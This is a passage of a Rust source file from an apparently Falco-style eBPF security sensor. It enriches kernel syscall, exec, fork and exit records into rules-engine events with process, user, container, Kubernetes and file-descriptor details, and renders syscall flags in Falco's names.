//! Enrichment: a decoded kernel record ([`RawEvent`]) in, the rules engine's [`Event`] out.
//!
//! The [`Enricher`] owns the process table, the container cache, an optional pod-metadata
//! handle, the host's user and group names and the boot clock. For each record it updates
//! the table (exec, fork, exit) and, for syscalls and execs, fills an [`Event`] with
//! everything the rules can ask about: the syscall's arguments rendered with Falco's names
//! and flag spellings (`evt.arg.flags = O_WRONLY|O_CREAT`), the file descriptor the call
//! used or made (`fd.name` resolved against the cwd or the `dirfd`, sockets as
//! `cip:cport->sip:sport`), the process and its ancestors, user, group, container and pod.
//!
//! It runs once per event (up to ~100k/s), so [`Enricher::apply_into`] refills a caller's
//! [`Event`] in place, reusing its strings and vectors; `/proc` is only read for pids the
//! table has not met (and, best-effort, for a `dirfd` or module `fd` path).

use std::borrow::Cow;
use std::collections::HashSet;
use std::fmt::Write as _;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::bpf::abi::{self, RawEvent, SockInfo, nr};
use crate::rules::event::{
    Args, Capabilities, Container, Direction, Fd, FdType, K8s, Process, SocketRole,
};
use crate::rules::{Event, EventType};

use super::clock::BootClock;
use super::container::{ContainerCache, ContainerCacheConfig};
use super::pods::PodCache;
use super::proctable::{
    IdMap, ProcInfo, ProcTable, ProcTableConfig, join_path, normalize_path, read_link_string,
};

/// How an [`Enricher`] is set up. `Default` is a sensor running on the host itself.
#[derive(Debug, Clone)]
pub struct EnricherConfig {
    /// Where `/proc` is (`/host/proc` in the DaemonSet).
    pub proc_root: PathBuf,
    /// The host's `/etc`, for `passwd` and `group`.
    pub etc_root: PathBuf,
    pub cgroups: ContainerCacheConfig,
    /// `evt.hostname`.
    pub hostname: String,
    /// Process table bound.
    pub max_procs: usize,
    /// How many ancestors an event carries (`proc.aname[N]` up to this N).
    pub max_parents: usize,
    /// How long exited processes stay in the table (records' boot ns).
    pub exit_grace_ns: u64,
    /// The longest the enricher waits, once per pod UID, for the pod watcher to learn a pod
    /// it has not seen yet. Zero never waits.
    pub pod_wait: Duration,
    pub clock: BootClock,
}

impl Default for EnricherConfig {
    fn default() -> Self {
        let proc_root = PathBuf::from("/proc");
        EnricherConfig {
            hostname: read_hostname(&proc_root),
            proc_root,
            etc_root: PathBuf::from("/etc"),
            cgroups: ContainerCacheConfig::default(),
            max_procs: 65_536,
            max_parents: 8,
            exit_grace_ns: 2_000_000_000,
            pod_wait: Duration::from_millis(50),
            clock: BootClock::new(),
        }
    }
}

/// The host name as `<proc_root>/sys/kernel/hostname` gives it ("" if unreadable).
pub fn read_hostname(proc_root: &Path) -> String {
    std::fs::read_to_string(proc_root.join("sys/kernel/hostname"))
        .map(|s| s.trim().to_string())
        .unwrap_or_default()
}

/// Turns kernel records into rules-engine events. See the module docs.
#[derive(Debug)]
pub struct Enricher {
    table: ProcTable,
    containers: ContainerCache,
    pods: Option<PodCache>,
    hostname: String,
    clock: BootClock,
    users: NameDb,
    groups: NameDb,
    max_parents: usize,
    pod_wait: Duration,
    pods_waited: HashSet<String>,
    /// Every capability this kernel has: a process holding all of them is privileged.
    full_caps: u64,
    num: u64,
}

impl Enricher {
    pub fn new(config: EnricherConfig, pods: Option<PodCache>) -> Enricher {
        let proc_root = config.proc_root.clone();
        let last_cap = std::fs::read_to_string(proc_root.join("sys/kernel/cap_last_cap"))
            .ok()
            .and_then(|s| s.trim().parse::<u32>().ok())
            .filter(|c| *c < 64)
            .unwrap_or(40);
        Enricher {
            table: ProcTable::new(ProcTableConfig {
                proc_root,
                max_entries: config.max_procs,
                exit_grace_ns: config.exit_grace_ns,
                exit_ring: 4096,
                ancestor_depth: config.max_parents,
                clock: config.clock,
            }),
            containers: ContainerCache::new(config.cgroups),
            pods,
            hostname: config.hostname,
            clock: config.clock,
            users: NameDb::new(config.etc_root.join("passwd")),
            groups: NameDb::new(config.etc_root.join("group")),
            max_parents: config.max_parents,
            pod_wait: config.pod_wait,
            pods_waited: HashSet::new(),
            full_caps: u64::MAX >> (63 - last_cap),
            num: 0,
        }
    }

    /// Seed the process table from `/proc`; returns how many processes were read.
    pub fn seed(&mut self) -> usize {
        self.table.seed_from_proc(&mut self.containers)
    }

    pub fn table(&self) -> &ProcTable {
        &self.table
    }

    pub fn containers(&self) -> &ContainerCache {
        &self.containers
    }

    /// How many events have been produced (the last `evt.num`).
    pub fn events(&self) -> u64 {
        self.num
    }

    /// Update the process table for `raw` and return the event it makes: syscalls and
    /// execs make one, forks and exits do not (nor syscalls the engine has no type for).
    pub fn apply(&mut self, raw: &RawEvent<'_>) -> Option<Event> {
        let mut ev = Event::new(EventType::Execve);
        self.apply_into(raw, &mut ev).then_some(ev)
    }

    /// [`Self::apply`] into a caller's event, reusing its allocations. Returns whether `ev`
    /// now holds an event (if not, its contents are unspecified).
    pub fn apply_into(&mut self, raw: &RawEvent<'_>, ev: &mut Event) -> bool {
        let h = &raw.hdr;
        let (kind, dir, res) = match h.kind {
            abi::KIND_FORK | abi::KIND_EXIT => {
                self.table.apply(raw, &mut self.containers);
                return false;
            }
            abi::KIND_EXEC => {
                self.table.apply(raw, &mut self.containers);
                (EventType::Execve, Direction::Exit, 0)
            }
            abi::KIND_SYSCALL | abi::KIND_SYSCALL_ENTER => {
                let Some(kind) = abi::event_type(h.nr) else {
                    return false;
                };
                self.table.ensure(h, &mut self.containers);
                if h.kind == abi::KIND_SYSCALL {
                    (kind, Direction::Exit, h.ret)
                } else {
                    (kind, Direction::Enter, 0)
                }
            }
            _ => return false,
        };
        let Some(p) = self.table.get(h.pid) else {
            return false;
        };
        self.num += 1;
        ev.num = self.num;
        ev.ts = self.clock.to_wall(h.ts);
        ev.kind = kind;
        ev.dir = dir;
        ev.res = res;
        ev.hostname.clone_from(&self.hostname);

        // The process: identity from the table, the rest from the header (current).
        fill_process(&mut ev.proc, p, true);
        ev.proc.tid = i64::from(h.tid);
        ev.proc.vpid = i64::from(h.vpid);
        if h.ppid != 0 {
            ev.proc.ppid = i64::from(h.ppid);
        }
        if h.start_ns != 0 {
            ev.proc.start_ts = self.clock.to_wall(h.start_ns);
        }
        ev.proc.tty = h.tty;
        ev.proc.cap_effective = Capabilities(h.cap_eff);
        ev.proc.cap_permitted = Capabilities(0);
        if let Some(leader) = self.table.get(p.sid).filter(|_| p.sid != 0) {
            ev.proc.sname.clone_from(&leader.comm);
        }

        let mut n = 0;
        for (i, a) in self
            .table
            .ancestors_iter(h.pid, self.max_parents)
            .enumerate()
        {
            if ev.parents.len() <= i {
                ev.parents.push(Process::default());
            }
            fill_process(&mut ev.parents[i], a, false);
            if i == 0 {
                // proc.pcmdline needs the parent's arguments.
                ev.parents[i].args.clone_from(&a.args);
            }
            n = i + 1;
        }
        ev.parents.truncate(n);

        ev.user.uid = h.uid;
        ev.user.name.clear();
        ev.user.name.push_str(self.users.name(h.uid));
        ev.user.loginuid = if h.loginuid == u32::MAX {
            -1
        } else {
            i64::from(h.loginuid)
        };
        ev.user.loginname.clear();
        if h.loginuid != u32::MAX {
            ev.user.loginname.push_str(self.users.name(h.loginuid));
        }
        ev.group.gid = h.gid;
        ev.group.name.clear();
        ev.group.name.push_str(self.groups.name(h.gid));

        let mut w = ArgWriter::new(&mut ev.args);
        let has_fd = fill_call(
            raw,
            kind,
            &p.cwd,
            self.table.proc_root(),
            &mut w,
            &mut ev.fd,
        );
        w.finish();
        if !has_fd {
            ev.fd = None;
        }

        match &p.container {
            Some(c) => {
                let dst = ev.container.get_or_insert_with(Container::default);
                dst.id.clone_from(&c.id);
                dst.name.clear();
                dst.image.clear();
                dst.image_repository.clear();
                dst.image_tag.clear();
                dst.start_ts = 0;
                dst.privileged = h.cap_eff & self.full_caps == self.full_caps;
            }
            None => ev.container = None,
        }
        match p.container.as_ref().and_then(|c| c.pod_uid.as_deref()) {
            Some(uid) => fill_k8s(
                self.pods.as_ref(),
                &mut self.pods_waited,
                self.pod_wait,
                ev,
                uid,
            ),
            None => ev.k8s = None,
        }
        true
    }
}

/// `k8s.*` for a pod UID: the metadata from the pod cache, waiting for it (once per UID,
/// at most `wait`) if the watcher has not delivered it yet. The UID is set either way.
fn fill_k8s(
    pods: Option<&PodCache>,
    waited: &mut HashSet<String>,
    wait: Duration,
    ev: &mut Event,
    uid: &str,
) {
    let meta = pods.and_then(|pods| match pods.get(uid) {
        Some(m) => Some(m),
        None if !wait.is_zero() && !waited.contains(uid) => {
            if waited.len() >= 4096 {
                waited.clear();
            }
            waited.insert(uid.to_string());
            pods.lookup_wait(uid, wait).map(std::sync::Arc::new)
        }
        None => None,
    });
    let k = ev.k8s.get_or_insert_with(K8s::default);
    if k.pod_uid != uid {
        k.pod_uid.clear();
        k.pod_uid.push_str(uid);
    }
    match meta {
        Some(m) => {
            k.ns.clone_from(&m.ns);
            k.pod.clone_from(&m.name);
            if k.labels != m.labels {
                k.labels.clone_from(&m.labels);
            }
        }
        None => {
            k.ns.clear();
            k.pod.clear();
            k.labels.clear();
        }
    }
}

/// Copy a table entry into an event's process, reusing the destination's buffers.
/// `full` copies everything; ancestors get their identity only.
fn fill_process(dst: &mut Process, p: &ProcInfo, full: bool) {
    dst.pid = i64::from(p.pid);
    dst.tid = i64::from(if p.tid != 0 { p.tid } else { p.pid });
    dst.ppid = i64::from(p.ppid);
    dst.vpid = i64::from(p.vpid);
    dst.name.clone_from(&p.comm);
    dst.exe.clone_from(&p.exe);
    dst.exepath.clone_from(&p.exepath);
    if !full {
        dst.args.clear();
        dst.cwd.clear();
        dst.env.clear();
        dst.sname.clear();
        dst.start_ts = p.start_ns;
        dst.tty = p.tty;
        return;
    }
    dst.args.clone_from(&p.args);
    // Falco's proc.cwd ends with a slash.
    dst.cwd.clear();
    if !p.cwd.is_empty() {
        dst.cwd.push_str(&p.cwd);
        if !p.cwd.ends_with('/') {
            dst.cwd.push('/');
        }
    }
    dst.tty = p.tty;
    dst.start_ts = p.start_ns;
    dst.sname.clone_from(&p.sname);
    dst.exe_from_memfd = p.exe_from_memfd;
    dst.exe_upper_layer = p.exe_upper_layer;
    dst.exe_ino_ctime = p.exe_ino_ctime;
    dst.exe_ino_mtime = p.exe_ino_mtime;
    dst.env.clone_from(&p.env);
    dst.cap_effective = Capabilities(p.cap_effective);
}

/// Writes `evt.args` in place, reusing the slots (and their strings) of the last event.
struct ArgWriter<'a> {
    args: &'a mut Args,
    n: usize,
}

impl<'a> ArgWriter<'a> {
    fn new(args: &'a mut Args) -> ArgWriter<'a> {
        ArgWriter { args, n: 0 }
    }

    /// The next argument's value buffer, emptied.
    fn slot(&mut self, name: &'static str) -> &mut String {
        let v = &mut self.args.0;
        if self.n < v.len() {
            v[self.n].0 = Cow::Borrowed(name);
            v[self.n].1.clear();
        } else {
            v.push((Cow::Borrowed(name), String::new()));
        }
        self.n += 1;
        &mut v[self.n - 1].1
    }

    fn str(&mut self, name: &'static str, value: &str) {
        self.slot(name).push_str(value);
    }

    fn int(&mut self, name: &'static str, value: i64) {
        let _ = write!(self.slot(name), "{value}");
    }

    fn flags(&mut self, name: &'static str, value: u64, table: &[(u64, &str)]) {
        render_flags(self.slot(name), value, table);
    }

    fn finish(self) {
        self.args.0.truncate(self.n);
    }
}

/// `AT_FDCWD` as the raw argument holds it.
const AT_FDCWD: i32 = -100;

fn as_fd(v: u64) -> i32 {
    v as i32
}

fn render_dirfd(out: &mut String, v: u64) {
    let fd = as_fd(v);
    if fd == AT_FDCWD {
        out.push_str("AT_FDCWD");
    } else {
        let _ = write!(out, "{fd}");
    }
}

/// Render `value` as `NAME|NAME`, with unknown bits as hex and 0 as "0".
fn render_flags(out: &mut String, value: u64, table: &[(u64, &str)]) {
    let mut left = value;
    for &(bit, name) in table {
        if bit != 0 && value & bit == bit && left & bit != 0 {
            if !out.is_empty() {
                out.push('|');
            }
            out.push_str(name);
            left &= !bit;
        }
    }
    if left != 0 {
        if !out.is_empty() {
            out.push('|');
        }
        let _ = write!(out, "{left:#x}");
    }
    if out.is_empty() {
        out.push('0');
    }
}

/// x86_64 open(2) flags, in Falco's order of importance (access mode first).
const OPEN_FLAGS: &[(u64, &str)] = &[
    (0o100, "O_CREAT"),
    (0o200, "O_EXCL"),
    (0o400, "O_NOCTTY"),
    (0o1000, "O_TRUNC"),
    (0o2000, "O_APPEND"),
    (0o4000, "O_NONBLOCK"),
    (0o4010000, "O_SYNC"),
    (0o10000, "O_DSYNC"),
    (0o20000, "O_ASYNC"),
    (0o40000, "O_DIRECT"),
    (0o100000, "O_LARGEFILE"),
    (0o20200000, "O_TMPFILE"),
    (0o200000, "O_DIRECTORY"),
    (0o400000, "O_NOFOLLOW"),
    (0o1000000, "O_NOATIME"),
    (0o2000000, "O_CLOEXEC"),
    (0o10000000, "O_PATH"),
];
const O_ACCMODE: u64 = 3;
const O_DIRECTORY: u64 = 0o200000;
/// What creat(2) is: open with these flags.
const CREAT_FLAGS: u64 = 0o1 | 0o100 | 0o1000;

fn render_open_flags(out: &mut String, flags: u64) {
    out.push_str(match flags & O_ACCMODE {
        1 => "O_WRONLY",
        2 => "O_RDWR",
        3 => "O_ACCMODE",
        _ => "O_RDONLY",
    });
    let rest = flags & !O_ACCMODE;
    if rest != 0 {
        // `out` is not empty, so every name gets its '|'.
        render_flags(out, rest, OPEN_FLAGS);
    }
}

fn render_mode(out: &mut String, mode: u64) {
    if mode == 0 {
        out.push('0');
    } else {
        let _ = write!(out, "0{mode:o}");
    }
}

/// Socket address families by value (`AF_*`).
fn family_name(v: u64) -> Option<&'static str> {
    Some(match v {
        0 => "AF_UNSPEC",
        1 => "AF_UNIX",
        2 => "AF_INET",
        3 => "AF_AX25",
        4 => "AF_IPX",
        5 => "AF_APPLETALK",
        9 => "AF_X25",
        10 => "AF_INET6",
        15 => "AF_KEY",
        16 => "AF_NETLINK",
        17 => "AF_PACKET",
        29 => "AF_CAN",
        31 => "AF_BLUETOOTH",
        38 => "AF_ALG",
        40 => "AF_VSOCK",
        44 => "AF_XDP",
        _ => return None,
    })
}

const SOCK_TYPE_FLAGS: &[(u64, &str)] = &[(0o4000, "SOCK_NONBLOCK"), (0o2000000, "SOCK_CLOEXEC")];

fn render_sock_type(out: &mut String, v: u64) {
    let base = v & 0xf;
    match base {
        1 => out.push_str("SOCK_STREAM"),
        2 => out.push_str("SOCK_DGRAM"),
        3 => out.push_str("SOCK_RAW"),
        4 => out.push_str("SOCK_RDM"),
        5 => out.push_str("SOCK_SEQPACKET"),
        6 => out.push_str("SOCK_DCCP"),
        10 => out.push_str("SOCK_PACKET"),
        b => {
            let _ = write!(out, "{b}");
        }
    }
    let rest = v & !0xf;
    if rest != 0 {
        render_flags(out, rest, SOCK_TYPE_FLAGS);
    }
}

fn ptrace_request(v: u64) -> Option<&'static str> {
    Some(match v {
        0 => "PTRACE_TRACEME",
        1 => "PTRACE_PEEKTEXT",
        2 => "PTRACE_PEEKDATA",
        3 => "PTRACE_PEEKUSR",
        4 => "PTRACE_POKETEXT",
        5 => "PTRACE_POKEDATA",
        6 => "PTRACE_POKEUSER",
        7 => "PTRACE_CONT",
        8 => "PTRACE_KILL",
        9 => "PTRACE_SINGLESTEP",
        12 => "PTRACE_GETREGS",
        13 => "PTRACE_SETREGS",
        14 => "PTRACE_GETFPREGS",
        15 => "PTRACE_SETFPREGS",
        16 => "PTRACE_ATTACH",
        17 => "PTRACE_DETACH",
        18 => "PTRACE_GETFPXREGS",
        19 => "PTRACE_SETFPXREGS",
        24 => "PTRACE_SYSCALL",
        0x4200 => "PTRACE_SETOPTIONS",
        0x4201 => "PTRACE_GETEVENTMSG",
        0x4202 => "PTRACE_GETSIGINFO",
        0x4203 => "PTRACE_SETSIGINFO",
        0x4204 => "PTRACE_GETREGSET",
        0x4205 => "PTRACE_SETREGSET",
        0x4206 => "PTRACE_SEIZE",
        0x4207 => "PTRACE_INTERRUPT",
        0x4208 => "PTRACE_LISTEN",
        0x4209 => "PTRACE_PEEKSIGINFO",
        _ => return None,
    })
}

const NS_FLAGS: &[(u64, &str)] = &[
    (0x80, "CLONE_NEWTIME"),
    (0x200, "CLONE_FS"),
    (0x400, "CLONE_FILES"),
    (0x20000, "CLONE_NEWNS"),
    (0x40000, "CLONE_SYSVSEM"),
    (0x0200_0000, "CLONE_NEWCGROUP"),
    (0x0400_0000, "CLONE_NEWUTS"),
    (0x0800_0000, "CLONE_NEWIPC"),
    (0x1000_0000, "CLONE_NEWUSER"),
    (0x2000_0000, "CLONE_NEWPID"),
    (0x4000_0000, "CLONE_NEWNET"),
];

const MOUNT_FLAGS: &[(u64, &str)] = &[
    (1, "MS_RDONLY"),
    (2, "MS_NOSUID"),
    (4, "MS_NODEV"),
    (8, "MS_NOEXEC"),
    (16, "MS_SYNCHRONOUS"),
    (32, "MS_REMOUNT"),
    (64, "MS_MANDLOCK"),
    (128, "MS_DIRSYNC"),
    (1024, "MS_NOATIME"),
    (2048, "MS_NODIRATIME"),
    (4096, "MS_BIND"),
    (8192, "MS_MOVE"),
    (16384, "MS_REC"),
    (32768, "MS_SILENT"),
    (1 << 16, "MS_POSIXACL"),
    (1 << 17, "MS_UNBINDABLE"),
    (1 << 18, "MS_PRIVATE"),
    (1 << 19, "MS_SLAVE"),
    (1 << 20, "MS_SHARED"),
    (1 << 21, "MS_RELATIME"),
    (1 << 22, "MS_KERNMOUNT"),
    (1 << 23, "MS_I_VERSION"),
    (1 << 24, "MS_STRICTATIME"),
    (1 << 25, "MS_LAZYTIME"),
];

const UMOUNT_FLAGS: &[(u64, &str)] = &[
    (1, "MNT_FORCE"),
    (2, "MNT_DETACH"),
    (4, "MNT_EXPIRE"),
    (8, "UMOUNT_NOFOLLOW"),
];

const MEMFD_FLAGS: &[(u64, &str)] = &[
    (1, "MFD_CLOEXEC"),
    (2, "MFD_ALLOW_SEALING"),
    (4, "MFD_HUGETLB"),
    (8, "MFD_NOEXEC_SEAL"),
    (0x10, "MFD_EXEC"),
];

const AT_FLAGS: &[(u64, &str)] = &[
    (0x100, "AT_SYMLINK_NOFOLLOW"),
    (0x200, "AT_REMOVEDIR"),
    (0x400, "AT_SYMLINK_FOLLOW"),
    (0x800, "AT_NO_AUTOMOUNT"),
    (0x1000, "AT_EMPTY_PATH"),
];

const RENAME_FLAGS: &[(u64, &str)] = &[
    (1, "RENAME_NOREPLACE"),
    (2, "RENAME_EXCHANGE"),
    (4, "RENAME_WHITEOUT"),
];

const MODULE_FLAGS: &[(u64, &str)] = &[
    (1, "MODULE_INIT_IGNORE_MODVERSIONS"),
    (2, "MODULE_INIT_IGNORE_VERMAGIC"),
    (4, "MODULE_INIT_COMPRESSED_FILE"),
];

fn bpf_cmd(v: u64) -> Option<&'static str> {
    const CMDS: [&str; 37] = [
        "BPF_MAP_CREATE",
        "BPF_MAP_LOOKUP_ELEM",
        "BPF_MAP_UPDATE_ELEM",
        "BPF_MAP_DELETE_ELEM",
        "BPF_MAP_GET_NEXT_KEY",
        "BPF_PROG_LOAD",
        "BPF_OBJ_PIN",
        "BPF_OBJ_GET",
        "BPF_PROG_ATTACH",
        "BPF_PROG_DETACH",
        "BPF_PROG_TEST_RUN",
        "BPF_PROG_GET_NEXT_ID",
        "BPF_MAP_GET_NEXT_ID",
        "BPF_PROG_GET_FD_BY_ID",
        "BPF_MAP_GET_FD_BY_ID",
        "BPF_OBJ_GET_INFO_BY_FD",
        "BPF_PROG_QUERY",
        "BPF_RAW_TRACEPOINT_OPEN",
        "BPF_BTF_LOAD",
        "BPF_BTF_GET_FD_BY_ID",
        "BPF_TASK_FD_QUERY",
        "BPF_MAP_LOOKUP_AND_DELETE_ELEM",
        "BPF_MAP_FREEZE",
        "BPF_BTF_GET_NEXT_ID",
        "BPF_MAP_LOOKUP_BATCH",
        "BPF_MAP_LOOKUP_AND_DELETE_BATCH",
        "BPF_MAP_UPDATE_BATCH",
        "BPF_MAP_DELETE_BATCH",
        "BPF_LINK_CREATE",
        "BPF_LINK_UPDATE",
        "BPF_LINK_GET_FD_BY_ID",
        "BPF_LINK_GET_NEXT_ID",
        "BPF_ENABLE_STATS",
        "BPF_ITER_CREATE",
        "BPF_LINK_DETACH",
        "BPF_PROG_BIND_MAP",
        "BPF_TOKEN_CREATE",
    ];
    usize::try_from(v).ok().and_then(|i| CMDS.get(i)).copied()
}

/// A uid/gid argument: `-1` (unchanged) for `u32::MAX`.
fn id_arg(v: u64) -> i64 {
    let id = v as u32;
    if id == u32::MAX { -1 } else { i64::from(id) }
}

/// Render one call's arguments and fill its file descriptor. Returns whether `fd` was set.
fn fill_call(
    raw: &RawEvent<'_>,
    kind: EventType,
    cwd: &str,
    proc_root: &Path,
    w: &mut ArgWriter<'_>,
    fd_slot: &mut Option<Fd>,
) -> bool {
    let h = &raw.hdr;
    let a = h.args;
    let res = if h.kind == abi::KIND_SYSCALL {
        h.ret
    } else {
        0
    };
    if h.kind == abi::KIND_EXEC {
        let argv = raw.list(2);
        w.str("exe", argv.first().map_or("", String::as_str));
        let s = w.slot("args");
        for (i, x) in argv.iter().skip(1).enumerate() {
            if i > 0 {
                s.push(' ');
            }
            s.push_str(x);
        }
        w.str("filename", &raw.str(0));
        return false;
    }
    let s0 = || raw.str(0);
    let pid = h.pid;
    let path_at = |dirfd: Option<u64>, p: &str| resolve_path(cwd, proc_root, pid, dirfd, p);
    match h.nr {
        nr::OPEN | nr::OPENAT | nr::OPENAT2 | nr::CREAT => {
            let name = s0();
            let (dirfd, flags, mode) = match h.nr {
                nr::OPEN => (None, Some(a[1]), a[2]),
                nr::OPENAT => (Some(a[0]), Some(a[2]), a[3]),
                // openat2's flags and mode: the `struct open_how` bytes in s1
                nr::OPENAT2 => {
                    let how = raw.strs[1];
                    let word = |i: usize| {
                        how.get(i * 8..i * 8 + 8)
                            .and_then(|b| <[u8; 8]>::try_from(b).ok())
                            .map(u64::from_le_bytes)
                    };
                    (Some(a[0]), word(0), word(1).unwrap_or(0))
                }
                _ => (None, Some(CREAT_FLAGS), a[1]),
            };
            w.int("fd", res);
            if let Some(d) = dirfd {
                render_dirfd(w.slot("dirfd"), d);
            }
            w.str("name", &name);
            if let Some(f) = flags {
                render_open_flags(w.slot("flags"), f);
            }
            render_mode(w.slot("mode"), mode);
            let resolved = path_at(dirfd, &name);
            let fd = reset_fd(fd_slot);
            // A failed open has no descriptor: fd.num is -1, as in Falco (whose
            // open_file_failed macro tests fd.num=-1); the error stays in evt.res.
            fd.num = if res < 0 { -1 } else { res };
            fd.kind = if flags.is_some_and(|f| f & O_DIRECTORY != 0 && f & 0o20000000 == 0) {
                FdType::Directory
            } else {
                FdType::File
            };
            if resolved != name {
                fd.nameraw.push_str(&name);
            }
            fd.name = resolved;
            true
        }
        nr::CONNECT => {
            w.int("fd", i64::from(as_fd(a[0])));
            let addr = parse_sockaddr(raw.strs[0]);
            let s = w.slot("addr");
            if let Some(sa) = &addr {
                sa.render(s);
            }
            let fd = reset_fd(fd_slot);
            fd.num = i64::from(as_fd(a[0]));
            let filled = match raw.sock() {
                Some(si) => fill_sock(fd, &si, SocketRole::Client),
                None => addr.as_ref().is_some_and(|sa| fill_from_sockaddr(fd, sa)),
            };
            if fd.kind == FdType::Unix
                && fd.name.is_empty()
                && let Some(sa) = &addr
            {
                sa.render(&mut fd.name);
            }
            fd.connected = res >= 0;
            if filled {
                w.str("tuple", &fd.name);
            }
            filled
        }
        nr::ACCEPT | nr::ACCEPT4 => {
            w.int("fd", res);
            let fd = reset_fd(fd_slot);
            fd.num = res;
            let filled = raw
                .sock()
                .is_some_and(|si| fill_sock(fd, &si, SocketRole::Server));
            fd.connected = filled && res >= 0;
            if filled {
                w.str("tuple", &fd.name);
            }
            if h.nr == nr::ACCEPT4 {
                w.flags("flags", a[3], SOCK_TYPE_FLAGS);
            }
            filled
        }
        nr::DUP | nr::DUP2 | nr::DUP3 => {
            w.int("oldfd", i64::from(as_fd(a[0])));
            if h.nr != nr::DUP {
                w.int("newfd", i64::from(as_fd(a[1])));
            }
            if h.nr == nr::DUP3 {
                w.flags("flags", a[2], &[(0o2000000, "O_CLOEXEC")]);
            }
            let fd = reset_fd(fd_slot);
            fd.num = res;
            match raw.sock() {
                Some(si) => {
                    let filled = fill_sock(fd, &si, SocketRole::Client);
                    fd.connected = filled && si.rport != 0;
                    filled
                }
                None => false,
            }
        }
        nr::SOCKET => {
            let s = w.slot("domain");
            match family_name(a[0]) {
                Some(n) => s.push_str(n),
                None => {
                    let _ = write!(s, "{}", a[0]);
                }
            }
            render_sock_type(w.slot("type"), a[1]);
            w.int("proto", a[2] as i32 as i64);
            w.int("fd", res);
            let kind = match a[0] as u16 {
                abi::AF_INET => FdType::Ipv4,
                abi::AF_INET6 => FdType::Ipv6,
                abi::AF_UNIX => FdType::Unix,
                abi::AF_NETLINK => FdType::Netlink,
                _ => return false,
            };
            let fd = reset_fd(fd_slot);
            fd.num = res;
            fd.kind = kind;
            if kind.is_ip() {
                fd.l4proto.push_str(l4proto(a[1] as u16 & 0xf, a[2] as u16));
            }
            true
        }
        nr::PTRACE => {
            let s = w.slot("request");
            match ptrace_request(a[0]) {
                Some(n) => s.push_str(n),
                None => {
                    let _ = write!(s, "{}", a[0]);
                }
            }
            w.int("pid", i64::from(a[1] as i32));
            false
        }
        nr::SETUID => {
            w.int("uid", id_arg(a[0]));
            false
        }
        nr::SETGID => {
            w.int("gid", id_arg(a[0]));
            false
        }
        nr::SETREUID => {
            w.int("ruid", id_arg(a[0]));
            w.int("euid", id_arg(a[1]));
            false
        }
        nr::SETREGID => {
            w.int("rgid", id_arg(a[0]));
            w.int("egid", id_arg(a[1]));
            false
        }
        nr::SETRESUID => {
            w.int("ruid", id_arg(a[0]));
            w.int("euid", id_arg(a[1]));
            w.int("suid", id_arg(a[2]));
            false
        }
        nr::SETRESGID => {
            w.int("rgid", id_arg(a[0]));
            w.int("egid", id_arg(a[1]));
            w.int("sgid", id_arg(a[2]));
            false
        }
        nr::MOUNT => {
            w.str("dev", &s0());
            w.str("dir", &path_at(None, &raw.str(1)));
            w.str("type", &raw.str(2));
            w.flags("flags", a[3], MOUNT_FLAGS);
            false
        }
        nr::UMOUNT2 => {
            w.str("name", &path_at(None, &s0()));
            w.flags("flags", a[1], UMOUNT_FLAGS);
            false
        }
        nr::SYMLINK | nr::SYMLINKAT => {
            // The target is stored as given: a relative one is relative to the link.
            w.str("target", &s0());
            let dirfd = (h.nr == nr::SYMLINKAT).then_some(a[1]);
            if let Some(d) = dirfd {
                render_dirfd(w.slot("linkdirfd"), d);
            }
            w.str("linkpath", &path_at(dirfd, &raw.str(1)));
            false
        }
        nr::LINK | nr::LINKAT => {
            let at = h.nr == nr::LINKAT;
            if at {
                render_dirfd(w.slot("olddir"), a[0]);
            }
            w.str("oldpath", &path_at(at.then_some(a[0]), &s0()));
            if at {
                render_dirfd(w.slot("newdir"), a[2]);
            }
            w.str("newpath", &path_at(at.then_some(a[2]), &raw.str(1)));
            if at {
                w.flags("flags", a[4], AT_FLAGS);
            }
            false
        }
        nr::RENAME | nr::RENAMEAT | nr::RENAMEAT2 => {
            let at = h.nr != nr::RENAME;
            if at {
                render_dirfd(w.slot("olddirfd"), a[0]);
            }
            w.str("oldpath", &path_at(at.then_some(a[0]), &s0()));
            if at {
                render_dirfd(w.slot("newdirfd"), a[2]);
            }
            w.str("newpath", &path_at(at.then_some(a[2]), &raw.str(1)));
            if h.nr == nr::RENAMEAT2 {
                w.flags("flags", a[4], RENAME_FLAGS);
            }
            false
        }
        nr::UNLINK => {
            w.str("path", &path_at(None, &s0()));
            false
        }
        nr::UNLINKAT => {
            render_dirfd(w.slot("dirfd"), a[0]);
            w.str("name", &path_at(Some(a[0]), &s0()));
            w.flags("flags", a[2], AT_FLAGS);
            false
        }
        nr::CHMOD => {
            w.str("filename", &path_at(None, &s0()));
            render_mode(w.slot("mode"), a[1]);
            false
        }
        nr::FCHMOD => {
            w.int("fd", i64::from(as_fd(a[0])));
            render_mode(w.slot("mode"), a[1]);
            false
        }
        nr::FCHMODAT => {
            render_dirfd(w.slot("dirfd"), a[0]);
            w.str("filename", &path_at(Some(a[0]), &s0()));
            render_mode(w.slot("mode"), a[2]);
            false
        }
        nr::SETNS => {
            let fdn = as_fd(a[0]);
            w.int("fd", i64::from(fdn));
            w.flags("nstype", a[1], NS_FLAGS);
            fd_path(fd_slot, proc_root, pid, fdn)
        }
        nr::UNSHARE => {
            w.flags("flags", a[0], NS_FLAGS);
            false
        }
        nr::INIT_MODULE => {
            w.int("length", a[1] as i64);
            w.str("uargs", &s0());
            false
        }
        nr::FINIT_MODULE => {
            let fdn = as_fd(a[0]);
            w.int("fd", i64::from(fdn));
            w.str("uargs", &s0());
            w.flags("flags", a[2], MODULE_FLAGS);
            fd_path(fd_slot, proc_root, pid, fdn)
        }
        nr::MEMFD_CREATE => {
            let name = s0();
            w.int("fd", res);
            w.str("name", &name);
            w.flags("flags", a[1], MEMFD_FLAGS);
            let fd = reset_fd(fd_slot);
            fd.num = res;
            fd.kind = FdType::Memfd;
            fd.name.push_str("memfd:");
            fd.name.push_str(&name);
            true
        }
        nr::BPF => {
            let s = w.slot("cmd");
            match bpf_cmd(a[0]) {
                Some(n) => s.push_str(n),
                None => {
                    let _ = write!(s, "{}", a[0]);
                }
            }
            if res >= 0 {
                let fd = reset_fd(fd_slot);
                fd.num = res;
                fd.kind = FdType::Bpf;
                return true;
            }
            false
        }
        nr::EXECVE | nr::EXECVEAT => {
            // A failed exec (successful ones arrive as KIND_EXEC).
            if kind == EventType::Execveat {
                render_dirfd(w.slot("dirfd"), a[0]);
                w.str("pathname", &s0());
                w.flags("flags", a[4], AT_FLAGS);
            } else {
                w.str("filename", &s0());
            }
            false
        }
        _ => false,
    }
}

/// Empty the event's fd (keeping its buffers) and return it.
